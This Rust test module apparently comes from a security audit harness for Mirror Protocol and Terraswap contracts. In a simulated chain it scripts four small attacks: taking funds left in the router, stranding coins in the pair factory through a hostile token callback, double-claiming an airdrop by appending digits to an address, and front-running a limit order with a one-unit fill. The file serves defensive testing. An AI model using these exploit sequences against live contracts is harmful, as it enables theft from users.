//! Attacks that gain little, or that need a mistake of the victim.

use cosmwasm_std::{coin, Decimal, Int128, Uint128};
use mirror_merkle::{leaf, Tree};
use mirror_protocol::{airdrop, limit_order};
use mirror_testing::{percent, World, BASE};
use terraswap::asset::{Asset, AssetInfo};
use terraswap::factory;
use terraswap::router::{ExecuteMsg, SwapOperation};

use super::dusting_token;
use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, MILLION, UNIT};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::{base, Transaction};
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "small doors",
    story:
        "A route that ended at the router met its minimum and left 992,033 uluna for a stranger; \
            a token's callback left its market maker's coins in the pair factory; an address with \
            digits behind it claimed an airdrop again; one unit filled before refused a full fill.",
    run,
};

/// A coin with a pool of its own.
const DENOM: &str = "uluna";

fn run() -> anyhow::Result<Findings> {
    Ok(Findings {
        attempts: vec![
            router()?,
            callback(
                6,
                "issued a token that puts dust into the pair that bob makes of it",
            )?,
            callback(200, "the same with a token of 200 decimals")?,
            digits()?,
            filled_before()?,
        ],
        exposures: vec![],
    })
}

/// Bob names the router as the receiver of a swap; the attacker swaps 10 micro coins after him.
fn router() -> anyhow::Result<Attempt> {
    let mut trial = with_a_market_of_uluna()?;
    let router = trial.world.at.router.clone();
    let there = [AssetInfo::native(BASE), AssetInfo::native(DENOM)];
    let swap = ExecuteMsg::ExecuteSwapOperations {
        operations: vec![operation(&there)],
        minimum_receive: Some((UNIT * 99 / 100).into()),
        to: Some(router.to_string()),
        deadline: None,
    };
    let paid = [coin(UNIT, BASE)];
    if let Err(refusal) = trial.world.bob().tries(&router, &swap, &paid) {
        trial.refused_to_others("T-10", &refusal);
    }
    let [from, to] = there;
    let back = ExecuteMsg::ExecuteSwapOperations {
        operations: vec![operation(&[to, from])],
        minimum_receive: None,
        to: None,
        deadline: None,
    };
    let paid = Asset::native(DENOM, 10u128);
    trial.does(Transaction::new().pays(&router, &back, paid))?;
    trial.ends("routed 10 uluna after bob, who had named the router as the receiver")
}

/// Alice has created the pool of uluna.
fn with_a_market_of_uluna() -> anyhow::Result<Trial> {
    let mut world = World::new();
    let factory = world.at.swap_factory.clone();
    world.chain.fund(&factory, &[coin(1, DENOM)]);
    let decimals = factory::ExecuteMsg::AddNativeTokenDecimals {
        denom: DENOM.to_string(),
        decimals: 6,
    };
    world.gov().tries(&factory, &decimals, &[])?;
    let create = factory::ExecuteMsg::CreatePair {
        assets: Some([base(MILLION), Asset::native(DENOM, MILLION)]),
        asset_infos: None,
    };
    let paid = [coin(MILLION, DENOM), coin(MILLION, BASE)];
    world.alice().tries(&factory, &create, &paid)?;
    let mut trial = Trial::new(world, &[(DENOM, Decimal::one())])?;
    trial.measures("bob")?;
    Ok(trial)
}

fn operation([offer, ask]: &[AssetInfo; 2]) -> SwapOperation {
    SwapOperation::TerraSwap {
        offer_asset_info: offer.clone(),
        ask_asset_info: ask.clone(),
    }
}

/// Bob creates the pair of a hostile token; his coins that stay in the pair factory are lost.
fn callback(decimals: u8, tried: &str) -> anyhow::Result<Attempt> {
    let mut world = World::new();
    let [bob, attacker] = ["bob", "attacker"].map(|name| world.chain.account(name));
    let msg = dusting_token::InstantiateMsg {
        decimals,
        holder: bob,
        amount: MILLION.into(),
    };
    let token = world
        .chain
        .try_create(dusting_token::code(), &attacker, &msg)?;
    world.chain.fund(&token, &[coin(2, BASE)]);
    let mut trial = Trial::new(world, &[])?;
    let factory = trial.world.at.swap_factory.clone();
    let before = trial.world.base_balance(&factory);

    let brought = 1_000 * UNIT;
    let create = factory::ExecuteMsg::CreatePair {
        assets: Some([base(brought), Asset::token(&token, brought)]),
        asset_infos: None,
    };
    let paid = [coin(brought, BASE)];
    if let Err(refusal) = trial.world.bob().tries(&factory, &create, &paid) {
        trial.refused_to_others("T-85", &refusal);
    }
    let stuck = trial.world.base_balance(&factory) - before;
    trial.adds_loss(stuck);
    trial.ends(tried)
}

/// Twelve digits that make another valid address when they follow the attacker's.
const DIGITS: &str = "895568733720";
/// The attacker's part of the airdrop, which begins with these digits.
const AMOUNT: u128 = 8_955_687_337_209;
/// Bob's part of the airdrop.
const OF_BOB: u128 = 9_150_000_000_000 - AMOUNT;

/// The attacker claims twice, the second time with digits of the amount behind the address.
fn digits() -> anyhow::Result<Attempt> {
    let mut trial = Trial::new(World::new(), &[("MIR", fixtures::price("0.5")?)])?;
    let (airdrop, attacker) = (trial.world.at.airdrop.clone(), trial.attacker.clone());
    let bob = trial.world.chain.account("bob");
    let list = [(&attacker, AMOUNT), (&bob, OF_BOB)];
    let leaves = list.map(|(who, amount)| leaf(who.as_str(), amount.into()));
    let tree = Tree::new(leaves.to_vec())?;
    let register = airdrop::ExecuteMsg::RegisterMerkleRoot {
        merkle_root: tree.root().to_string(),
        total_amount: Some((AMOUNT + OF_BOB).into()),
        expiration: None,
    };
    trial.world.gov().tries(&airdrop, &register, &[])?;

    let claim = |who: String, amount: u128, of: usize| {
        let leaf = leaves.get(of);
        let proof = leaf.and_then(|leaf| tree.proof(leaf)).unwrap_or_default();
        airdrop::ExecuteMsg::Claim {
            stage: 1,
            amount: amount.into(),
            proof: proof.iter().map(ToString::to_string).collect(),
            address: Some(who),
        }
    };
    let own = claim(attacker.to_string(), AMOUNT, 0);
    trial.does(Transaction::new().calls(&airdrop, &own))?;
    let again = claim(format!("{attacker}{DIGITS}"), AMOUNT % 10, 0);
    trial.tries("T-02", Transaction::new().calls(&airdrop, &again))?;
    let last = claim(bob.to_string(), OF_BOB, 1);
    if let Err(refusal) = trial.world.bob().tries(&airdrop, &last, &[]) {
        trial.refused_to_others("T-02", &refusal);
        trial.adds_loss(Uint128::new(OF_BOB / 2));
    } else {
        trial.adds_loss(Uint128::zero());
    }
    let attempt = trial.ends(
        "claimed an airdrop, and again for the address with the first twelve digits of the amount \
         behind it; bob claims last",
    )?;
    // The first claim was legitimate, so it is no gain.
    let gained = attempt.gained - Int128::new(i128::try_from(AMOUNT.div_ceil(2))?);
    Ok(Attempt { gained, ..attempt })
}

/// Bob wants to fill an order of 1,100 for 1,000; the attacker fills a unit of it before.
fn filled_before() -> anyhow::Result<Attempt> {
    let mut world = World::new().with_asset("mAAPL", "10");
    world.alice().opens(MILLION, "mAAPL", percent(200));
    let (orders, token) = (world.at.limit_order.clone(), world.token("mAAPL"));
    let (offered, asked) = (110 * UNIT, 1_000 * UNIT);
    let hook = limit_order::Cw20HookMsg::SubmitOrder {
        ask_asset: base(asked),
    };
    world
        .alice()
        .tries_to_hand(&token, offered, &orders, &hook)?;
    let mut trial = Trial::new(world, &[("mAAPL", fixtures::price("10")?)])?;

    let fill = |amount: u128| limit_order::ExecuteMsg::ExecuteOrder {
        execute_asset: base(amount),
        order_id: 1,
    };
    // Ten micro coins buy one micro mAAPL, which is worth ten: the attacker gains nothing.
    trial.does(Transaction::new().pays(&orders, &fill(10), base(10)))?;
    let full = trial
        .world
        .bob()
        .tries(&orders, &fill(asked), &[coin(asked, BASE)]);
    let lost = match &full {
        Ok(_) => 0,
        Err(refusal) => {
            trial.refused_to_others("T-78", refusal);
            offered * 10 - asked
        }
    };
    trial.adds_loss(lost.into());
    trial.ends("filled a unit of an order just before bob, who fills all of it")
}
